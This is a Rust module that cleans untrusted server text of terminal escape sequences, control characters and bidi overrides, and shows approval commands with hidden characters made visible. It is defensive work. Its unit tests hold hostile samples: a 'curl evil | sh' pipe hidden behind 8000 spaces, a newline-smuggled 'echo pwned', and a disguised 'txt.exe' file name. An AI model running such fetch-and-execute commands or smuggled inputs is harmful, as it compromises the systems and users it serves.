//! Every string a server sends is untrusted: it may carry terminal escape sequences, control
//! characters or bidirectional overrides meant to disguise what a person reads. Text is cleaned
//! here once, before it reaches the terminal, a table, a log line or a file name. Text a person
//! decides on (what an approval lets run) is not cleaned but shown whole, every hidden
//! character as a visible escape: [`for_decision`].

/// Characters kept in one-line fields (names, URIs, log lines) before they are cut off.
pub const MAX_FIELD_CHARS: usize = 4096;

/// Cleans `s` for display on one line: escape sequences and control characters are removed,
/// line breaks and tabs become spaces, and the result is cut to `max_chars` characters
/// (with a trailing `…` when something was cut).
pub fn line(s: &str, max_chars: usize) -> String {
    let mut out = String::with_capacity(s.len().min(max_chars * 4));
    for (count, c) in Cleaned::new(s).enumerate() {
        let c = if matches!(c, '\n' | '\t') { ' ' } else { c };
        if count == max_chars {
            out.pop();
            out.push('…');
            return out;
        }
        out.push(c);
    }
    out
}

/// Cleans an identifier (a URI, a server name) for one line of output like [`line`], but
/// never cuts it: a cut URI names another resource.
pub fn whole_line(s: &str) -> String {
    line(s, s.len() + 1)
}

/// Cleans multi-line text (resource contents, descriptions): like [`line`] but keeps line
/// breaks and tabs, and does not cut.
pub fn text(s: &str) -> String {
    Cleaned::new(s).collect()
}

/// White space runs longer than this are folded in [`for_decision`] (`\{8000 spaces}`).
const FOLD_RUN: usize = 16;

/// Shows untrusted text on which a person decides (an approval: what a server runs) so that
/// nothing in it is hidden, on one line: unlike [`line`], which strips or turns into spaces
/// what cannot be shown, every control character (newline, tab, ESC, …), escape sequence
/// introducer and invisible or format character (zero-width, Hangul fillers, tag characters,
/// bidi controls, soft hyphen, variation selectors, non-ASCII spaces) is written as a visible
/// escape (`\n`, `\t`, `\u{200B}`), a backslash as `\\` (so an escape is never ambiguous), and a
/// run of more than 16 equal white-space or invisible characters is folded
/// (`\{8000 spaces}`, `\{300 × \u{200B}}`) so what follows stays in view. Never cut: a cut
/// command is not the command approved.
pub fn for_decision(s: &str) -> String {
    let mut out = String::with_capacity(s.len().min(1 << 20));
    let mut chars = s.chars().peekable();
    let mut previous: Option<char> = None;
    while let Some(c) = chars.next() {
        let mut run = 1;
        while chars.peek() == Some(&c) {
            chars.next();
            run += 1;
        }
        let hidden = c == ' ' || is_hidden(c, previous);
        if hidden && run > FOLD_RUN {
            if c == ' ' {
                out.push_str(&format!("\\{{{run} spaces}}"));
            } else {
                out.push_str(&format!("\\{{{run} × {}}}", escaped(c)));
            }
        } else {
            for _ in 0..run {
                match c {
                    '\\' => out.push_str("\\\\"),
                    ' ' => out.push(' '),
                    c if is_hidden(c, previous) => out.push_str(&escaped(c)),
                    c => out.push(c),
                }
            }
        }
        previous = Some(c);
    }
    out
}

/// True when [`for_decision`] uses escapes: what it shows should say how to read them.
pub fn has_escapes(shown: &str) -> bool {
    shown.contains('\\')
}

/// The escape [`for_decision`] writes for a hidden character.
fn escaped(c: char) -> String {
    match c {
        '\n' => "\\n".into(),
        '\t' => "\\t".into(),
        '\r' => "\\r".into(),
        c => format!("\\u{{{:04X}}}", c as u32),
    }
}

/// Characters a person cannot see or tell apart on a terminal, given the one before
/// (`previous`): controls; format characters (Unicode category Cf: zero-width spaces and
/// joiners, bidi controls, soft hyphen, tag characters, …); fillers that draw as blank
/// (U+115F, U+1160, U+3164, U+FFA0, U+2800); variation selectors; white space other than
/// the ASCII space; private-use and non-characters; and a combining mark right after an ASCII
/// character, which changes how a file name or an option looks.
fn is_hidden(c: char, previous: Option<char>) -> bool {
    if c.is_control() || (c.is_whitespace() && c != ' ') {
        return true;
    }
    let hidden = matches!(c,
        '\u{AD}' | '\u{34F}' | '\u{61C}' | '\u{115F}' | '\u{1160}' | '\u{17B4}' | '\u{17B5}'
        | '\u{180B}'..='\u{180F}' | '\u{200B}'..='\u{200F}' | '\u{2028}'..='\u{202E}'
        | '\u{2060}'..='\u{206F}' | '\u{2800}' | '\u{3164}' | '\u{FE00}'..='\u{FE0F}'
        | '\u{FEFF}' | '\u{FFA0}' | '\u{FFF0}'..='\u{FFFB}' | '\u{FDD0}'..='\u{FDEF}'
        | '\u{E000}'..='\u{F8FF}' | '\u{1BCA0}'..='\u{1BCA3}' | '\u{1D173}'..='\u{1D17A}'
        | '\u{E0000}'..='\u{E0FFF}' | '\u{F0000}'..='\u{10FFFF}'
    ) || (c as u32 & 0xFFFE) == 0xFFFE;
    if hidden {
        return true;
    }
    // A combining mark (no width of its own) on an ASCII letter, digit or sign.
    use unicode_width::UnicodeWidthChar;
    previous.is_some_and(|p| p.is_ascii()) && c.width() == Some(0)
}

/// Characters that are never shown: C0/C1 controls (except newline and tab), DEL, and the
/// Unicode bidirectional embedding, override and isolate controls ("Trojan Source").
fn is_dropped(c: char) -> bool {
    match c {
        '\n' | '\t' => false,
        '\u{0}'..='\u{1f}' | '\u{7f}'..='\u{9f}' => true,
        '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => true,
        _ => false,
    }
}

/// An iterator over the characters of a string with escape sequences and dropped characters
/// removed. ESC starts a sequence: CSI (`ESC [` … final byte), OSC/DCS/SOS/PM/APC (… up to BEL
/// or `ESC \`), or a single following character.
struct Cleaned<'a> {
    chars: std::str::Chars<'a>,
}

impl<'a> Cleaned<'a> {
    fn new(s: &'a str) -> Self {
        Self { chars: s.chars() }
    }

    fn skip_sequence(&mut self) {
        match self.chars.next() {
            Some('[') => {
                // CSI: parameters and intermediates, then one final byte in 0x40..=0x7e.
                for c in self.chars.by_ref() {
                    if ('\u{40}'..='\u{7e}').contains(&c) {
                        break;
                    }
                }
            }
            Some(']' | 'P' | 'X' | '^' | '_') => {
                // String sequences end with BEL or ST (`ESC \`).
                while let Some(c) = self.chars.next() {
                    if c == '\u{7}' {
                        break;
                    }
                    if c == '\u{1b}' {
                        self.chars.next();
                        break;
                    }
                }
            }
            _ => {}
        }
    }
}

impl Iterator for Cleaned<'_> {
    type Item = char;

    fn next(&mut self) -> Option<char> {
        loop {
            let c = self.chars.next()?;
            if c == '\u{1b}' || c == '\u{9b}' {
                if c == '\u{9b}' {
                    // 8-bit CSI: behave as if `ESC [` was seen.
                    for c in self.chars.by_ref() {
                        if ('\u{40}'..='\u{7e}').contains(&c) {
                            break;
                        }
                    }
                } else {
                    self.skip_sequence();
                }
                continue;
            }
            if is_dropped(c) {
                continue;
            }
            return Some(c);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strips_csi_osc_and_controls() {
        assert_eq!(text("a\u{1b}[31mred\u{1b}[0m b"), "ared b");
        assert_eq!(text("x\u{1b}]0;title\u{7}y"), "xy");
        assert_eq!(
            text("x\u{1b}]8;;http://evil\u{1b}\\link\u{1b}]8;;\u{1b}\\y"),
            "xlinky"
        );
        assert_eq!(text("bell\u{7}cr\rnul\u{0}"), "bellcrnul");
        assert_eq!(text("c1\u{9b}2Jz"), "c1z");
        assert_eq!(text("rtl\u{202e}txt.exe"), "rtltxt.exe");
    }

    #[test]
    fn text_keeps_newlines_line_folds_them() {
        assert_eq!(text("a\nb\tc"), "a\nb\tc");
        assert_eq!(line("a\nb\tc", 100), "a b c");
    }

    #[test]
    fn line_cuts_with_ellipsis() {
        assert_eq!(line("abcdef", 3), "ab…");
        assert_eq!(line("abc", 3), "abc");
        assert_eq!(line("ééé", 10), "ééé");
    }

    #[test]
    fn for_decision_shows_what_line_hides() {
        // A second command after a newline, an escape sequence, a tab.
        assert_eq!(
            for_decision("true # docs\necho pwned\t\u{1b}[8m"),
            "true # docs\\necho pwned\\t\\u{001B}[8m"
        );
        // Invisible characters next to a file name look like nothing in `line`.
        for (hidden, escape) in [
            ('\u{200B}', "\\u{200B}"),
            ('\u{3164}', "\\u{3164}"),
            ('\u{115F}', "\\u{115F}"),
            ('\u{1160}', "\\u{1160}"),
            ('\u{FFA0}', "\\u{FFA0}"),
            ('\u{E0041}', "\\u{E0041}"),
            ('\u{202E}', "\\u{202E}"),
            ('\u{2067}', "\\u{2067}"),
            ('\u{AD}', "\\u{00AD}"),
            ('\u{FE0F}', "\\u{FE0F}"),
            ('\u{A0}', "\\u{00A0}"),
            ('\u{FEFF}', "\\u{FEFF}"),
            ('\u{301}', "\\u{0301}"),
        ] {
            let shown = for_decision(&format!("srv.py{hidden}"));
            assert_eq!(shown, format!("srv.py{escape}"), "{hidden:?}");
            assert_ne!(line(&format!("srv.py{hidden}"), 100), shown);
        }
        // A backslash is doubled, so `\n` typed in a file is not a newline shown.
        assert_eq!(for_decision(r"a\nb"), r"a\\nb");
        // Ordinary text, other scripts and their combining marks stay as they are.
        assert_eq!(
            for_decision("node srv.js --port=80"),
            "node srv.js --port=80"
        );
        assert_eq!(for_decision("café नमस्ते 日本"), "café नमस्ते 日本");
    }

    #[test]
    fn for_decision_folds_long_runs_so_the_payload_stays_in_view() {
        let padded = format!("true{}; curl evil | sh", " ".repeat(8000));
        let shown = for_decision(&padded);
        assert_eq!(shown, "true\\{8000 spaces}; curl evil | sh");
        let zw = format!("a{}b", "\u{200B}".repeat(300));
        assert_eq!(for_decision(&zw), "a\\{300 × \\u{200B}}b");
        // Short runs are shown one by one.
        assert_eq!(for_decision("a  b\n\nc"), "a  b\\n\\nc");
        assert_eq!(for_decision(&"-".repeat(40)), "-".repeat(40));
    }

    #[test]
    fn trailing_escape_is_dropped() {
        assert_eq!(text("abc\u{1b}"), "abc");
        assert_eq!(text("abc\u{1b}["), "abc");
    }
}
